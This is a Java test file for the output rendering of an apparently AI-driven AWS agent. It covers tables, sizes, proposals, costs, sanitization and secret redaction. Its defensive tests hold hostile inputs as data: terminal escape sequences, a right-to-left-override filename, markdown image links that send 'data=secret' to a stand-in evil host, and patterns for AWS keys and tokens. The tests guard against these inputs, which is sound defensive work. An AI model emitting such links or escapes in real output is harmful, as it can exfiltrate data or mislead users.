package dev.awsagent.agent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.awsagent.credential.Target;
import dev.awsagent.guard.Decision;
import dev.awsagent.guard.Proposal;
import dev.awsagent.guard.ReviewedStep;
import dev.awsagent.internal.Json;
import dev.awsagent.internal.Redactor;
import dev.awsagent.internal.Text;
import dev.awsagent.plan.Argument;
import dev.awsagent.plan.Origin;
import dev.awsagent.plan.Step;
import dev.awsagent.plan.StepOutcome;
import dev.awsagent.tool.AwsCall;
import dev.awsagent.tool.Cost;
import dev.awsagent.tool.Effect;
import dev.awsagent.tool.FailureKind;
import dev.awsagent.tool.Impact;
import dev.awsagent.tool.Param;
import dev.awsagent.tool.ParamKind;
import dev.awsagent.tool.Tool;
import dev.awsagent.tool.ToolCall;
import dev.awsagent.tool.ToolInfo;
import dev.awsagent.tool.ToolRegistry;
import dev.awsagent.tool.ToolResult;
import dev.awsagent.tool.Undo;
import java.math.BigDecimal;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class RenderingTest {

    private static final Reply.Context HERE =
            new Reply.Context("c", "dev", "123456789012", "eu-west-1", null, false, "local", false);

    private static String table(String json) {
        return ResultText.of(Json.parse(json), ZoneOffset.UTC);
    }

    @Test
    void listOfRecords_isATableWithHumanSizesAndTimes() {
        assertThat(table("{\"objects\":[{\"key\":\"a.txt\",\"size\":1536,\"lastModified\":\"2026-01-02T03:04:05Z\"},"
                        + "{\"key\":\"b\",\"size\":7,\"lastModified\":null}]}"))
                .isEqualTo("""
                        key       size  last modified
                        a.txt  1.5 KiB  2026-01-02 03:04:05 Z
                        b          7 B  -""");
    }

    @Test
    void times_areInTheZoneThatIsNamed() {
        assertThat(ResultText.of(Json.parse("{\"at\":\"2026-01-02T23:30:00Z\"}"), ZoneId.of("Europe/Berlin")))
                .isEqualTo("at: 2026-01-03 00:30:00 CET");
    }

    @Test
    void wideCharacters_keepColumnsInLine() {
        var lines = table(
                        "[{\"key\":\"写真.jpg\",\"n\":1},{\"key\":\"👩\u200d💻.txt\",\"n\":2},{\"key\":\"cafe\u0301.txt\",\"n\":3}]")
                .split("\n");

        assertThat(List.of(lines)).extracting(Text::width).containsOnly(Text.width(lines[0]));
    }

    @Test
    void emptyList_saysSo() {
        assertThat(table("{\"buckets\":[]}")).isEqualTo("buckets: (none)");
        assertThat(table("[]")).isEqualTo("(none)");
        assertThat(table("{\"count\":0,\"buckets\":[],\"notes\":[]}")).isEqualTo("count: 0");
    }

    @Test
    void emptyListBesideAFullOne_isNoNews() {
        assertThat(table("{\"buckets\":[{\"name\":\"b\"}],\"notes\":[]}")).isEqualTo("name\nb");
    }

    @Test
    void rowsThatAreCut_areCounted() {
        var json = Json.array();
        for (int i = 0; i < 1200; i++) {
            json.addObject().put("key", "k" + i);
        }

        assertThat(ResultText.of(json, ZoneOffset.UTC)).endsWith("… 700 more of 1200; the JSON has them all");
    }

    @Test
    void record_isNamesAndValues() {
        assertThat(
                        table(
                                "{\"bucket\":\"b\",\"versioningEnabled\":true,\"tags\":[\"a\",\"b\"],\"rules\":[{\"id\":\"x\"}],\"more\":{\"y\":1}}"))
                .isEqualTo("""
                        bucket:             b
                        versioning enabled: yes
                        tags:               a, b
                        rules:
                          id
                          x
                        more:
                          y: 1""");
    }

    @ParameterizedTest
    @CsvSource({
        "0,0 B",
        "1023,1023 B",
        "1024,1 KiB",
        "1536,1.5 KiB",
        "1048575,1 MiB",
        "5368709120,5 GiB",
        "9223372036854775807,8 EiB"
    })
    void bytes_areInBinaryUnits(long bytes, String text) {
        assertThat(Rendering.bytes(bytes)).isEqualTo(text);
    }

    @ParameterizedTest
    @CsvSource({
        "PT1H,1 hour",
        "P1DT12H,1 day 12 hours",
        "PT90S,1 minute 30 seconds",
        "PT0.25S,0.25 seconds",
        "PT0S,0 seconds",
        "PT-5M,minus 5 minutes",
        "an hour,an hour"
    })
    void spansOfTime_areInWords(String iso, String words) {
        assertThat(Text.span(iso)).isEqualTo(words);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "1610612736 | 1.5 GiB (1,610,612,736 bytes)",
                "7 | 7 bytes",
                "1 | 1 byte",
                "1024 | 1 KiB (1,024 bytes)"
            })
    void sizesThatWereSaid_areShownExactlyToo(long bytes, String text) {
        assertThat(Text.size(bytes)).isEqualTo(text);
    }

    @ToolInfo(name = "t_find", effect = Effect.READ, value = "Finds things.")
    static final class Find implements Tool<Find.Input, String> {
        record Input(
                @Param(value = "Larger than", kind = ParamKind.SIZE)
                long largerThan,

                @Param(value = "For how long", kind = ParamKind.DURATION)
                Duration keep,

                @Param(value = "Since when", kind = ParamKind.TIME)
                Instant since,

                @Param("Any name") String name) {}

        @Override
        public List<AwsCall> calls(Input in) {
            return List.of();
        }

        @Override
        public ToolResult<String> call(Input in, ToolCall call) {
            return ToolResult.ok("");
        }
    }

    @Test
    void arguments_areShownAsWhatTheyAre() {
        var arguments = new LinkedHashMap<String, Argument>();
        arguments.put("largerThan", new Argument(Json.parse("1610612736"), Origin.USER));
        arguments.put("keep", new Argument(Json.parse("\"PT1H\""), Origin.DEFAULT));
        arguments.put("since", new Argument(Json.parse("\"2026-01-02T23:30:00Z\""), Origin.USER));
        arguments.put("name", new Argument(Json.parse("\"PT1H\""), Origin.USER));
        var step = new Step("1", "t_find", arguments, Target.ANY);
        var reviewed = new ReviewedStep(
                step,
                Effect.READ,
                List.of(),
                Impact.one("it", Undo.NOT_NEEDED),
                new Decision(Decision.Verdict.ALLOW, "test"));
        var proposal = new Proposal(
                "find", "local", List.of(reviewed), null, null, null, null, Target.ANY, "5ea1", Instant.EPOCH);

        assertThat(Rendering.in(ZoneOffset.UTC)
                        .knowing(ToolRegistry.of(List.of(new Find())))
                        .text(proposal))
                .contains(
                        "largerThan = 1.5 GiB (1,610,612,736 bytes)\n",
                        "keep = 1 hour   (a default)\n",
                        "since = 2026-01-02 23:30:00 Z\n",
                        "name = PT1H\n");
    }

    private static String touching(int count, Effect effect) {
        var resources = IntStream.range(0, count)
                .mapToObj(i -> String.format("i-%017x (web-%d)", i, i))
                .toList();
        var reviewed = new ReviewedStep(
                new Step("1", "t_change", new LinkedHashMap<>(), Target.ANY),
                effect,
                List.of(),
                new Impact(resources, count, null, Undo.NO, List.of()),
                new Decision(Decision.Verdict.ASK, "test"));
        return Rendering.in(ZoneOffset.UTC)
                .text(new Proposal(
                        "change",
                        "local",
                        List.of(reviewed),
                        null,
                        null,
                        null,
                        null,
                        Target.ANY,
                        "5ea1",
                        Instant.EPOCH));
    }

    private static String proposed(Impact impact, AwsCall... calls) {
        var reviewed = new ReviewedStep(
                new Step("1", "t_change", new LinkedHashMap<>(), Target.ANY),
                "Changes things.",
                Effect.WRITE,
                List.of(calls),
                impact,
                new Decision(Decision.Verdict.ASK, "test"),
                List.of(),
                null);
        return Rendering.in(ZoneOffset.UTC)
                .text(new Proposal(
                        "change",
                        "local",
                        List.of(reviewed),
                        null,
                        null,
                        null,
                        null,
                        Target.ANY,
                        "5ea1",
                        Instant.EPOCH));
    }

    @Test
    void step_isInWordsAndAsItsCalls() {
        var look = AwsCall.of("ec2", "DescribeInstances").with("Filters", List.of("x"));
        var stop = AwsCall.of("ec2", "StopInstances")
                .with("InstanceIds", List.of("i-1"))
                .with("Force", true)
                .open("Hibernate")
                .on("arn:aws:ec2:*:*:instance/i-1");
        var put = AwsCall.of("s3", "PutBucketPolicy").with("Policy", "p".repeat(500));

        assertThat(proposed(Impact.one("i-1", Undo.YES), look, stop, put))
                .contains("asks first (test)\n   Changes things.\n")
                .contains("   AWS: ec2:DescribeInstances, ec2:StopInstances InstanceIds=[\"i-1\"] Force=true"
                        + " on instance/i-1, s3:PutBucketPolicy Policy=" + "p".repeat(39) + "…");
    }

    @Test
    void whatChanges_isShownBeforeAndAfter() {
        var long1 = "a".repeat(50);
        var long2 = "b".repeat(50);
        var impact = Impact.one("i-1", Undo.YES)
                .differing(List.of(
                        new Impact.Difference("tag owner", "bob\u001b[8m", "maria"),
                        new Impact.Difference("tag team", null, "web"),
                        new Impact.Difference("tag old", "x", null),
                        new Impact.Difference("shape", "round", "round"),
                        new Impact.Difference("policy", long1, long2)));

        assertThat(proposed(impact)).contains("""
                   before -> after
                     tag owner: bob\\e[8m -> maria
                     tag team: (none) -> web
                     tag old: x -> (gone)
                     shape: round (stays)
                     policy:
                       - %s
                       + %s
                """.formatted(long1, long2));
    }

    @Test
    void cost_isSaidWithItsSourceOrAsNotKnown() {
        var one = Impact.one("a thing", Undo.YES);

        assertThat(proposed(one.costing(Cost.of(new BigDecimal("0.0104"), "USD", "a list of today"))))
                .contains("   cost: 0.0104 USD an hour, about 7.59 USD a month (a list of today)\n");
        assertThat(proposed(one.costing(Cost.unknown("nobody answered"))))
                .contains("   cost: not known (nobody answered)\n");
        assertThat(proposed(one.costing(Cost.byUse("what is stored"))))
                .contains("   cost: not known (it goes by what is stored)\n");
        assertThat(proposed(one.making(Map.of()))).contains("   cost: not known\n");
        assertThat(proposed(one)).doesNotContain("cost");
        assertThat(proposed(one.making(Map.of()).costing(Cost.NOTHING))).doesNotContain("cost");
    }

    /** Nobody can say yes to what is not shown. */
    @ParameterizedTest
    @EnumSource(
            value = Effect.class,
            names = {"WRITE", "DESTROY", "DISCLOSE"})
    void changeOfManyThings_namesEachInLinesThatFit(Effect effect) {
        var text = touching(1_000, effect);
        for (int i = 0; i < 1_000; i++) {
            assertThat(text).contains(String.format("i-%017x (web-%d)", i, i));
        }
        assertThat(text).contains("   1000 things\n").doesNotContain(" more");
        assertThat(text.lines()).allMatch(line -> line.length() <= 100 && !line.endsWith(" "));
    }

    @Test
    void changeOfAFewThings_namesThemInOneLine() {
        assertThat(touching(2, Effect.WRITE))
                .contains("   touches i-00000000000000000 (web-0), i-00000000000000001 (web-1)\n");
    }

    @Test
    void lookAtManyThings_namesTheFirst() {
        assertThat(touching(30, Effect.READ)).contains("(web-19), … 10 more\n").doesNotContain("(web-20)");
    }

    @ParameterizedTest(name = "[{index}]")
    @ValueSource(
            strings = {"the key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "my Password is x", "AKIAIOSFODNN7EXAMPLE"})
    void textThatMayHoldASecret_isKnownAsSuch(String text) {
        assertThat(Rendering.mayHoldSecret(text)).isTrue();
        assertThat(Rendering.mayHoldSecret("list buckets")).isFalse();
    }

    @Test
    void failureBeforeAnyReply_hasTheFormOfBoth() {
        var json = Rendering.json(FailureKind.INVALID, "no such option", "see --help");

        assertThat(json.path("type").asText()).isEqualTo("failed");
        assertThat(json.at("/error/message").asText()).isEqualTo("no such option");
        assertThat(json.path("failed")).isEqualTo(json.path("error"));
        assertThat(json.path("text").asText()).isEqualTo("Failed: no such option\nNext: see --help");
    }

    @Test
    void nextPage_isSaid() {
        var outcome = new StepOutcome(
                "1",
                "t_t",
                Json.parse("[\"a\"]"),
                Json.parse("[\"a\"]"),
                "ask for more after a",
                null,
                List.of(),
                0,
                1);

        assertThat(Rendering.in(ZoneOffset.UTC).answer(HERE, null, List.of(outcome)))
                .isEqualTo(
                        "a\nThis is not all: ask for more after a\n\n[profile dev, account 123456789012, region eu-west-1]");
    }

    @Test
    void sandbox_isSaidClearly() {
        var sandbox = new Reply.Context("c", null, "sandbox", "us-east-1", "http://127.0.0.1:1", true, "local", false);

        assertThat(Rendering.place(sandbox)).isEqualTo("SANDBOX, not AWS, region us-east-1");
    }

    @Test
    void failure_namesTheNextStep() {
        var reply = new Reply.Failed(HERE, FailureKind.NOT_FOUND, "no bucket 'x'", "did you mean y?", List.of());

        assertThat(Rendering.in(ZoneOffset.UTC).text(reply))
                .isEqualTo("Failed: no bucket 'x'\nNext: did you mean y?\n\n"
                        + "[profile dev, account 123456789012, region eu-west-1]");
    }

    @ParameterizedTest
    @CsvSource(
            quoteCharacter = '`',
            value = {
                "`a\u001b[31mred`,`a\\e[31mred`",
                "`x\r\ny`,`x\\r\\ny`",
                "`a\u202egnp.exe`,`a\\u202egnp.exe`",
                "`a\u0007\u009bb`,`a\\u0007\\u009bb`",
                "`a\u200bb\u2028c`,`a\\u200bb\\u2028c`",
                "`[click](http://evil.example/?d=1)`,`[click] (http://evil.example/?d=1)`",
                "`![i](http://evil.example/x.png)`,`![i] (http://evil.example/x.png)`",
                "`plain.txt`,`plain.txt`",
                "`写真 👩\u200d💻 café.txt`,`写真 👩\u200d💻 café.txt`",
            })
    void textFromElsewhere_isHarmless(String text, String shown) {
        assertThat(Rendering.harmless(text)).isEqualTo(shown);
    }

    @Test
    void namesInATable_areHarmless() {
        assertThat(table("[{\"key\":\"\\u001b]0;owned\\u0007\",\"\\u001b[2J\":1}]"))
                .doesNotContain("\u001b", "\u0007");
    }

    @Test
    void wordsOfAModel_keepTheirLinesAndLoseTheirLinks() {
        var text = Rendering.in(ZoneOffset.UTC)
                .answer(HERE, "First.\nSee ![x](http://evil.example/?data=secret)\u001b[8m", List.of());

        assertThat(text).startsWith("First.\nSee ![x] (http").contains("\\e[8m").doesNotContain("](", "\u001b");
    }

    @Property(tries = 500)
    void harmlessText_holdsNothingThatActs(@ForAll String text) {
        var shown = Text.harmless(text);

        assertThat(shown.codePoints())
                .noneMatch(c -> c < 0x20 || c >= 0x7f && c < 0xa0 || c == 0x202e || c == 0x2066 || c == 0x200b);
        assertThat(shown).doesNotContain("](");
        assertThat(Text.harmless(shown)).isEqualTo(shown);
    }

    @Property(tries = 500)
    void cutText_isNeverWiderThanAllowed(@ForAll String text) {
        assertThat(Text.width(Text.cut(Text.harmless(text), 20))).isLessThanOrEqualTo(20);
    }

    @ParameterizedTest(name = "[{index}]")
    @ValueSource(
            strings = {
                "AKIAIOSFODNN7EXAMPLE",
                "key ASIAIOSFODNN7EXAMPLE.",
                "aws_secret_access_key=AKSECRETvalue",
                "aws_secret_access_key = 'AKSECRETvalue'",
                "\"SecretAccessKey\": \"AKSECRETvalue\"",
                "AWS_SESSION_TOKEN=AKSECRETvalue",
                "https://b/?X-Amz-Security-Token=AKSECRETvalue&x=1",
                "https://b/?X-Amz-Signature=AKSECRETvalue",
                "password: AKSECRETvalue",
                "Authorization: Bearer AKSECRETvalue00",
                "IQoJb3JpZ2luX2VjEAKSECRETvalueaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                "sk-AKSECRETvalue0123456789"
            })
    void secrets_areTakenOutByTheirForm(String text) {
        assertThat(Redactor.redact(text)).contains("***").doesNotContain("AKSECRETvalue", "IOSFODNN7EXAMPLE");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "list my buckets",
                "the secret bucket",
                "s3://data/session-2026/part-1.csv",
                "password rules",
                "arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-AbCdEf"
            })
    void ordinaryText_staysAsItIs(String text) {
        assertThat(Redactor.redact(text)).isEqualTo(text);
    }

    @ParameterizedTest(name = "[{index}]")
    @CsvSource(
            delimiter = '|',
            value = {
                "http://user:pa/ss@word@host:9000/x | http://***@host:9000/x",
                "ftp://user:word@host/a@b | ftp://***@host/a@b",
                "key AKIAIOSFODNN7EXAMPLE is wrong | key …MPLE is wrong",
                "token=abc&x=1 | token=***&x=1",
                "s3://bucket/a@b.txt is there | s3://bucket/a@b.txt is there",
            })
    void foreignText_isRedactedMore(String text, String shown) {
        assertThat(Redactor.redactForeign(text)).isEqualTo(shown);
    }
}
